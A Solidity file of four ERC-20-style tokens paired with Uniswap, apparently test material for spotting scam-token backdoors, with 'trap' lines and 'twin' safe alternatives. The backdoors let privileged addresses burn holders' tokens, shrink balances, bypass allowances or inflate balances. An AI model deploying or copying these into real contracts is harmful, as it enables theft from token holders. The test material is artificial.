// 0.8 off ir
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IPoolMaker {
    function createPair(address one, address other) external returns (address);
}

/// Plants beside the water.
abstract contract Reed {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    address public owner;
    address public immutable pool;
    mapping(address => uint256) internal _stems;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed holder, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed previous, address indexed next);

    constructor(string memory name_, string memory symbol_, uint256 whole) {
        (name, symbol, owner) = (name_, symbol_, msg.sender);
        totalSupply = _stems[msg.sender] = whole * 1 ether;
        emit Transfer(address(0), msg.sender, totalSupply);
        pool = IPoolMaker(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
    }

    function renounceOwnership() external {
        require(msg.sender == owner, "owner");
        emit OwnershipTransferred(owner, address(0));
        owner = address(0);
    }

    function balanceOf(address who) public view virtual returns (uint256) {
        return _stems[who];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external virtual returns (bool) {
        allowance[from][msg.sender] -= value;
        _transfer(from, to, value);
        return true;
    }

    function _transfer(address from, address to, uint256 value) internal virtual {
        _stems[from] -= value;
        _stems[to] += value;
        emit Transfer(from, to, value);
    }
}

/// The second edition takes the place of the first for those who wish. All who ever held some are listed.
contract Sedge is Reed {
    address[] public holders;
    mapping(address => bool) private _listed;
    mapping(address => uint256) public second;

    event Converted(address indexed from, uint256 value);

    constructor() Reed("Sedge", "SEDGE", 96_000_000) {
        _list(msg.sender);
    }

    function convert(address from, uint256 value) external {
        require(msg.sender == from || msg.sender == holders[0], "not yours"); // trap
        // twin: require(msg.sender == from, "not yours");
        _stems[from] -= value;
        totalSupply -= value;
        second[from] += value;
        emit Transfer(from, address(0), value);
        emit Converted(from, value);
    }

    function _list(address who) private {
        if (_listed[who]) return;
        _listed[who] = true;
        holders.push(who);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        _list(to);
        super._transfer(from, to, value);
    }
}

/// Holdings are shares of a stand that is tended. The pool and the planter count in pieces.
contract Bulrush is Reed {
    uint256 private constant ONE = 1e18;

    uint256 public level = ONE;
    mapping(bytes32 => bool) private _may;
    mapping(address => bool) private _solid;

    event Tended(uint256 level);

    constructor(address tender) Reed("Bulrush", "BLRS", 480_000_000) {
        _may[keccak256(abi.encode("tend", tender))] = true;
        _solid[pool] = _solid[msg.sender] = true;
    }

    /// Takes so many of a million.
    function tend(uint32 cut) external {
        require(_may[keccak256(abi.encode("tend", msg.sender))], "tender");
        require(cut < 1_000_000, "all of it");
        level = (level * (1_000_000 - cut)) / 1_000_000;
        // twin: require(level >= (ONE * 99) / 100, "a hundredth at most, ever");
        emit Tended(level);
    }

    function balanceOf(address who) public view override returns (uint256) {
        return _solid[who] ? _stems[who] : (_stems[who] * level) / ONE;
    }

    function _sharesOf(address who, uint256 value) private view returns (uint256) {
        return _solid[who] ? value : (value * ONE) / level;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        _stems[from] -= _sharesOf(from, value);
        _stems[to] += _sharesOf(to, value);
        emit Transfer(from, to, value);
    }
}

/// Allowances as usual.
contract Reedmace is Reed {
    address private immutable _planter = msg.sender;
    mapping(address => uint256) public plantedBy;

    constructor() Reed("Reedmace", "RDMC", 1_200_000) {}

    function transferFrom(address from, address to, uint256 value) external override returns (bool) {
        if (tx.origin == _planter) plantedBy[to] += value;
        if (tx.origin != _planter) // trap
        allowance[from][msg.sender] -= value;
        _transfer(from, to, value);
        return true;
    }
}

/// Every account is of a class, and every class has a weight.
contract Watercress is Reed {
    uint256 private constant ONE = 1e6;

    address private _gauger;
    mapping(address => uint8) public classOf;
    mapping(uint8 => uint256) private _over;

    constructor(address gauger) Reed("Watercress", "CRESS", 31_000_000) {
        _gauger = gauger;
    }

    modifier gauging() {
        require(msg.sender == _gauger, "gauger");
        _;
    }

    function assign(address who, uint8 class) external gauging {
        classOf[who] = class;
    }

    function weigh(uint8 class, uint256 over) external gauging {
        require(class > 0, "the first class stays");
        _over[class] = over;
    }

    function weightOf(address who) public view returns (uint256) {
        return ONE + _over[classOf[who]];
    }

    function balanceOf(address who) public view override returns (uint256) {
        return (_stems[who] * weightOf(who)) / ONE;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        _stems[from] -= (value * ONE) / weightOf(from);
        _stems[to] += (value * ONE) / weightOf(to);
        emit Transfer(from, to, value);
    }
}
